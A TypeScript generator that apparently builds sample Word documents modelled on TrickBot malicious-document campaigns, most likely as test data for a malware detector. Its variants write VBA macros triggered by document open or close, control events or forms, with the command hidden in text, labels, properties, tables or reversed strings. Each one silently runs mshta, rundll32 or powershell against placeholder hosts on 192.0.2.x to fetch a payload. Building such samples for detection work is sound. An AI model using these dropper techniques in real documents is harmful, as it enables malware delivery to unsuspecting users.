/** Documents after campaigns of TrickBot. */

import { LABEL, powershell, TEXT_BOX } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { doc, docm } from './office.ts'

const EVENTS = ['Layout', 'Painted', 'GotFocus', 'Resize', 'MouseMove', 'Change'] as const

/** Events of controls, text of the document that is written as a script, and forms (2019 and 2020). */
export function trickBot(i: number): Buffer {
  const d = disguiseOf(300 + i)
  const [go, path, body, box, form] = [d.name(), d.name(), d.name(), d.name(), d.name()]
  const script = `var s = new ActiveXObject("WScript.Shell"); s.Run("rundll32 http://192.0.2.${i + 1}/a.dll,Start", 0);`
  const event = EVENTS[i % EVENTS.length]
  const trigger = `Private Sub ${i % 4 < 2 ? 'InkPicture1' : 'Frame1'}_${event}(${event === 'Layout' ? 'ByVal Index As Long' : ''})\n${d.junk(2)}\n${go}\nEnd Sub`
  const batch = ['@echo off', `start /MIN mshta http://192.0.2.${i + 1}/t.hta`]
  const write = i % 2 === 0 ? doc : docm
  const variants: (() => Buffer)[] = [
    () =>
      write({
        modules: {
          ThisDocument: trigger,
          [d.name()]: `Sub ${go}()\n${d.junk()}\n${path} = Environ("TEMP") & "\\${path}.jse"\nOpen ${path} For Output As #1\nPrint #1, ActiveDocument.Range.Text\nClose #1\nShell "wscript //e:jscript " & ${path}, 0\nEnd Sub`,
        },
        paragraphs: [script],
      }),
    () =>
      write({
        modules: {
          ThisDocument: trigger,
          [d.name()]: `Sub ${go}()\n${path} = "C:\\Users\\Public\\${path}.bat"\nSet ${body} = CreateObject("Scripting.FileSystemObject").CreateTextFile(${path})\n${batch.map((line) => `${body}.WriteLine ${d.joined(line)}`).join('\n')}\n${body}.Close\nCreateObject("Shell.Application").ShellExecute ${path}, "", "", "open", 0\nEnd Sub`,
        },
      }),
    () =>
      docm({
        modules: { ThisDocument: `${trigger}\nSub ${go}()\nShell ${box}.Text & ${box}.Tag, 0\nEnd Sub` },
        controls: [{ name: box, type: TEXT_BOX, value: `mshta http://192.0.2.${i}/a` }],
      }),
    () =>
      doc({
        modules: {
          ThisDocument: `${trigger}\nSub ${go}()\n${d.junk()}\nCreateObject("WScript.Shell").Run Me.${box}.Caption, 0\nEnd Sub`,
        },
        controls: [{ name: box, type: LABEL, caption: `mshta http://192.0.2.${i}/a` }],
      }),
    () =>
      docm({
        modules: {
          ThisDocument: trigger,
          [d.name()]: `Sub ${go}()\nWith New ${form}\n${path} = .${box}.Tag & .${body}.Caption\nEnd With\nSet ${box} = CreateObject("Shell.Application")\n${box}.ShellExecute "cmd.exe", ${path}, "", "", 0\nEnd Sub`,
        },
        forms: {
          [form]: [
            { name: box, type: LABEL, tag: '/c start mshta http://19' },
            { name: body, type: LABEL, caption: `2.0.2.${i}/a.hta` },
          ],
        },
      }),
    () =>
      docm({
        modules: {
          ThisDocument: trigger,
          [d.name()]: `Sub ${go}()\n${path} = Environ("APPDATA") & "\\${path}.vbs"\nActiveDocument.SaveAs2 FileName:=${path}, FileFormat:=wdFormatText\nShell "cscript " & ${path}, 0\nEnd Sub`,
        },
        paragraphs: [script],
      }),
    () =>
      write({
        modules: {
          ThisDocument: `Sub Document_Close()\n${go}\nEnd Sub`,
          [d.name()]: `Sub ${go}()\nOn Error Resume Next\nCallByName CreateObject(${d.joined('WScript.Shell')}), ${d.joined('Run')}, 1, ${d.joined(powershell(i))}, 0\nEnd Sub`,
        },
      }),
    () =>
      write({
        modules: {
          ThisDocument: `Sub Document_Open()\nApplication.OnTime Now + TimeValue("00:00:02"), "${go}"\nEnd Sub`,
          [d.name()]: `Sub ${go}()\n${d.junk()}\nShell ${d.joined(powershell(i))}, 0\nEnd Sub`,
        },
      }),
    () =>
      write({
        modules: {
          ThisDocument: trigger,
          [d.name()]: `Sub ${go}()\nApplication.Run "${form}", StrReverse("${[...powershell(i)].reverse().join('')}")\nEnd Sub\nSub ${form}(${box})\nDim ${body} As Object\nSet ${body} = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")\n${body}.Run ${box}, 0\nEnd Sub`,
        },
      }),
    () =>
      docm({
        modules: {
          ThisDocument: trigger,
          [d.name()]: `Sub ${go}()\n${path} = ActiveDocument.CustomDocumentProperties("${box}").Value\n${body} = Replace(${path}, "${form}", "")\nShell ${body}, 0\nEnd Sub`,
        },
        properties: { [box]: d.separated(powershell(i), form) },
      }),
    () =>
      docm({
        modules: {
          [form]: `Private Sub UserForm_Initialize()\nShell ${box}.Value, 0\nEnd Sub`,
          [d.name()]: `Sub AutoOpen()\n${form}.Show\nEnd Sub`,
        },
        forms: { [form]: [{ name: box, type: TEXT_BOX, value: powershell(i) }] },
      }),
    () =>
      docm({
        modules: {
          ThisDocument: trigger,
          [d.name()]: `Sub ${go}()\nDim ${path}() As String\n${path} = Split(ActiveDocument.Tables(1).Cell(1, 1).Range.Text, "|")\n${body} = ${path}(0)\nShell ${body}, 0\nEnd Sub`,
        },
        paragraphs: [`${powershell(i)}|x`],
      }),
  ]
  return (variants[i] as () => Buffer)()
}
